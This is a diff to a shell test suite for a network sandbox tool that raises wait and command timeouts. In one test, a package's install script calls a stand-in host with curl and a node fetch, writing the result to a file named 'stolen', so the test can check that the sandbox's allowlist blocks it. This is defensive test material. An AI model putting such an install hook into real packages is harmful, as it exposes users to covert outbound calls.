@@ -46,7 +46,7 @@ for part in session auth; do
                 echo "Sshd${part^}Path $SERVERS/usr/lib/openssh/sshd-$part" >>"$T/ssh/conf"
 done
 serve sshd -D -e -f "$T/ssh/conf" 2>"$T/ssh/log"
-wait_for 10 serving 93.184.216.34 22 || { cat "$T/ssh/log"; echo 'Bail out! no sshd'; exit 1; }
+wait_for 60 serving 93.184.216.34 22 || { cat "$T/ssh/log"; echo 'Bail out! no sshd'; exit 1; }
 
 # --- git http-backend, and a registry ---
 backend=$(git --exec-path)/git-http-backend
@@ -77,7 +77,7 @@ CONF
 ip addr add 93.184.216.40/32 dev lo
 serve fcgiwrap -c 2 -s "unix:$T/git/fcgi" 2>"$T/git/log"
 serve nginx -c "$T/git/conf" -p "$T/git" -e "$T/git/err" >/dev/null 2>&1
-wait_for 10 serving 93.184.216.40 443 && wait_for 10 test -S "$T/git/fcgi" ||
+wait_for 60 serving 93.184.216.40 443 && wait_for 60 test -S "$T/git/fcgi" ||
         { cat "$T/git/err" "$T/git/log"; echo 'Bail out! no git server'; exit 1; }
 
 # --- ssh: by its port, without TLS or HTTP, so the rule says /tcp ---
@@ -202,7 +202,7 @@ SH
         chmod 755 "$W/bin/cofferdam"
         while IFS= read -r line; do
                 echo "\$ $line"
-                PATH=$W/bin:$PATH timeout 60 sh -c "$line" 2>&1 </dev/null || true
+                PATH=$W/bin:$PATH timeout 200 sh -c "$line" 2>&1 </dev/null || true
         done < <(sed -n 's/^\$ //p' "$W/shown") >"$W/got"
         # times differ
         eq "$(sed 's/ in [0-9.]*m\?s$/ in 1s/' "$W/shown")" "$(sed 's/ in [0-9.]*m\?s$/ in 1s/' "$W/got")"
@@ -211,7 +211,7 @@ SH
 # neither a tarball that the registry says another host has, nor what a script of the package wants
 npm_elsewhere() {
         need_command npm
-        registry "curl -s -m 9 https://tracker.example/ >stolen; node -e \"fetch('https://tracker.example/').catch(() => 0)\""
+        registry "curl -s -m 60 https://tracker.example/ >stolen; node -e \"fetch('https://tracker.example/').catch(() => 0)\""
         printf 'registry=https://npm.corp.example/\ncafile=ca.pem\nfetch-retries=0\n' >.npmrc
         cp "$T/git/ca.pem" ca.pem
         status 0 sandbox --network allowlist --allow npm.corp.example -- npm install --no-audit greet >said 2>&1
